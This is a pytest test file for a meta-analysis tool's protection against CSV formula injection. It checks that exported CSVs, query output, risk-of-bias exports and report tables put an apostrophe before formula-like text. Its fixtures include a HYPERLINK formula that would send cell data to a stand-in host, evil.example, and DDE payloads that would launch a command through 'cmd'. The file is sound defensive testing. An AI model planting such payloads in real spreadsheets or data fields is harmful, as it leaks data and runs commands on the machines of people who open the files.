"""CSV formula injection (issue 21): every CSV a person may open in a spreadsheet (the data package,
``query --format csv``, ``rob export``, the report's study tables) writes a text cell that a
spreadsheet would run as a formula with an apostrophe before it (OWASP), keeps numbers (negative
ones too) as numbers, and gives the exact value back to a program: ``rob import`` of an exported
file, the package's checksums, and ``reproduce.R``'s reader in R."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import shutil
import subprocess

import pytest
import yaml
from click.testing import CliRunner

from livemeta import api
from livemeta.cli import main
from livemeta.db import connect
from livemeta.project import load_project, new_project
from livemeta.safe import FORMULA_START, csv_text, csv_uncell

from .fictional import fictional_study

NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
REGIMEN = "@SUM(1+1)*cmd|' /C calc'!A0"
RAW = "-2+3+cmd|' /C calc'!A0"
CITATION = "+1+1 Author A, et al."
TAB, CR, QUOTED = "\t=1+1", "\r=1+1", "'already quoted"
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for c in row:
            assert not (c.startswith(FORMULA_START) and not _NUMBER.fullmatch(c)), (where, c)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """Three fictional RCTs, the first named like a spreadsheet formula, with its consensus RoB 2
    of OS imported from a robvis file as `rob export` writes it; then tab, CR and apostrophe values
    written into the database."""
    tmp = tmp_path_factory.mktemp("csv")
    proj, _ = new_project(tmp / "review", name="Formulas")
    paths = []
    for i in (1, 2, 3):
        d = fictional_study(i)
        if i == 1:
            d["trial"]["name"] = NAME
            d["arms"][0]["regimen"] = REGIMEN
            for o in d["outcomes"]:
                o["raw_text"] = RAW
            d["sources"][0]["citation"] = CITATION
        path = proj.studies / f"study-{i}.yaml"
        path.write_text(yaml.safe_dump(d, sort_keys=False), encoding="utf-8")
        paths.append(path)
    api.ingest(paths, message="three fictional trials", project=proj)
    robvis_file = tmp / "rob.csv"
    robvis_file.write_text(csv_text(["Study", "D1", "D2", "D3", "D4", "D5", "Overall"],
                                    [[NAME, "Low", "Low", "Low", "Low", "High", "High"],
                                     ["Study 2", "Low", "Low", "Low", "Low", "Low", "Low"],
                                     ["Study 3", "Low", "Low", "Low", "Low", "Low", "Low"]]))
    assert robvis_file.read_text().splitlines()[1].startswith("\"'=HYPERLINK(")
    api.rob_import(robvis_file, tool="rob2", endpoint="os", role="consensus", assessor="A. Reviewer",
                   assessed_on="2026-01-15", project=proj, write=True)  # the name read back exactly
    api.ingest(paths, message="RoB 2 of OS", project=proj, supersede=True)
    proj = load_project(proj.root)
    with connect(proj.database) as con:
        tid = con.execute("select trial_id from history.trials where name = ?", [NAME]).fetchone()[0]
        con.execute("update history.sources set note = ?, url = ? where trial_id = ?", [TAB, CR, tid])
        con.execute("update history.trials set note = ? where trial_id = ?", [QUOTED, tid])
    return proj, tid


def test_export_writes_no_formula_and_keeps_the_exact_values(hostile, tmp_path):
    proj, tid = hostile
    out = tmp_path / "pkg"
    api.export(proj.database, out)
    dp = json.loads((out / "datapackage.json").read_text())
    assert "apostrophe" in dp["livemeta"]["text_cells"] and "=, +, -, @" in dp["livemeta"]["text_cells"]
    assert "apostrophe" in (out / "README.md").read_text()
    tables = {}
    for r in dp["resources"]:
        data = (out / r["path"]).read_bytes()
        assert r["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()  # the checksum of what is written
        tables[r["name"]] = _cells(data.decode())
        _assert_no_formula(tables[r["name"]], r["name"])

    def column(name, col, where=None):
        head, *body = tables[name]
        i = head.index(col)
        return [row[i] for row in body if where is None or row[head.index("trial_id")] == where]

    assert column("trials", "name", tid) == ["'" + NAME] and column("trials", "note", tid) == ["''already quoted"]
    assert column("sources", "citation", tid) == ["'" + CITATION] and column("sources", "note", tid) == ["'" + TAB]
    assert column("sources", "url", tid) == ["'" + CR]
    assert set(column("outcomes", "raw_text", tid)) == {"'" + RAW}
    assert REGIMEN in [csv_uncell(c) for c in column("arms", "regimen", tid)]
    assert [csv_uncell(c) for c in column("trials", "note", tid)] == [QUOTED]
    # numbers stay numbers: log hazard ratios below zero, unquoted
    estimates = column("pooled_estimates", "estimate")
    assert any(e.startswith("-") for e in estimates) and all(_NUMBER.fullmatch(e) for e in estimates if e)
    assert all(_NUMBER.fullmatch(v) for v in column("analysis_rows", "yi"))
    types = {f["name"]: f["type"] for r in dp["resources"] if r["name"] == "pooled_estimates"
             for f in r["schema"]["fields"]}
    assert types["estimate"] == "number"


def test_reproduce_r_reads_the_exact_values_back(hostile, tmp_path):
    """reproduce.R's own reader (its function definitions, evaluated in R) gives the exact values,
    and the script still reproduces every stored number."""
    if shutil.which("Rscript") is None:
        pytest.skip("needs Rscript; the Python reader of the same rule is tested above")
    proj, tid = hostile
    out = tmp_path / "pkg"
    api.export(proj.database, out)
    code = f"""
        for (e in parse({json.dumps(str(out / 'reproduce.R'))})) {{
          if (is.call(e) && identical(e[[1]], as.name("<-")) &&
              as.character(e[[2]]) %in% c("unguard_cells", "guard_cells", "rd")) eval(e)
        }}
        here <- {json.dumps(str(out))}
        t <- rd("trials"); s <- rd("sources"); o <- rd("outcomes")
        cat(t$name[t$trial_id == "{tid}"], t$note[t$trial_id == "{tid}"], s$citation[s$trial_id == "{tid}"],
            s$note[s$trial_id == "{tid}"], s$url[s$trial_id == "{tid}"], unique(o$raw_text[o$trial_id == "{tid}"]),
            sep = "\\x1f")
        write.csv(guard_cells(data.frame(x = c("=1", "-0.5", "a"))), stdout(), row.names = FALSE)
    """
    run = subprocess.run(["Rscript", "-e", code], capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    values, _, written = run.stdout.partition('"x"\n')
    # (R's scan() reads a carriage return inside a quoted cell as a line feed: R's own limit)
    assert values.split("\x1f") == [NAME, QUOTED, CITATION, TAB, CR.replace("\r", "\n"), RAW]
    assert written.splitlines() == ['"\'=1"', '"-0.5"', '"a"']
    if subprocess.run(["Rscript", "-e", "library(metafor)"], capture_output=True).returncode == 0:
        done = subprocess.run(["Rscript", str(out / "reproduce.R")], capture_output=True, text=True)
        assert done.returncode == 0 and "all within tolerance" in done.stdout, done.stdout + done.stderr


def test_query_csv_and_rob_export_write_no_formula(hostile, tmp_path):
    proj, tid = hostile
    runner = CliRunner()
    res = runner.invoke(main, ["query", "select trial_id, name, note, -0.5 as x, '-0.5' as t, '=1' as \"=h\" "
                               "from trials order by trial_id", "--format", "csv", "--db", str(proj.database)])
    assert res.exit_code == 0, res.output
    rows = _cells(res.output)
    _assert_no_formula(rows, "query")
    assert rows[0] == ["trial_id", "name", "note", "x", "t", "'=h"]
    first = next(r for r in rows if r[0] == tid)
    assert first[1:] == ["'" + NAME, "''already quoted", "-0.5", "-0.5", "'=1"]
    res = runner.invoke(main, ["rob", "export", "--endpoint", "os", "--analysis", "os", "--db", str(proj.database)])
    assert res.exit_code == 0, res.output
    rows = _cells(res.stdout)
    _assert_no_formula(rows, "rob export")
    assert ["'" + NAME, "Low", "Low", "Low", "Low", "High", "High"] == next(r for r in rows if "HYPERLINK" in r[0])[:7]
    # and it reads back: the exported file names the trial rob import finds
    from livemeta.importers import robvis

    parsed = robvis.parse(res.stdout, "rob2-os.csv", "rob2")
    assert NAME in [r.study for r in parsed]


def test_report_csv_files_write_no_formula(hostile, tmp_path, monkeypatch):
    """The CSV files a report writes instead of very tall figures (studies of a forest plot, robvis
    judgements)."""
    from livemeta.reports import report as report_module
    from livemeta.reports import rob as rob_module

    proj, _ = hostile
    monkeypatch.setattr(report_module, "FIGURE_MAX_ROWS", 1)
    monkeypatch.setattr(rob_module, "FIGURE_MAX_ROWS", 1)
    monkeypatch.setenv("LIVEMETA_REPORT_WORKERS", "1")
    out = tmp_path / "report"
    api.report(proj.database, out, project=proj)
    written = sorted((out / "figures").glob("*.csv"))
    assert {p.name for p in written} >= {"forest_os.csv", "rob_rob2_os.csv"}
    for p in written:
        rows = _cells(p.read_text(encoding="utf-8"))
        _assert_no_formula(rows, p.name)
        assert any(c.startswith("'=HYPERLINK(") for r in rows for c in r), p.name
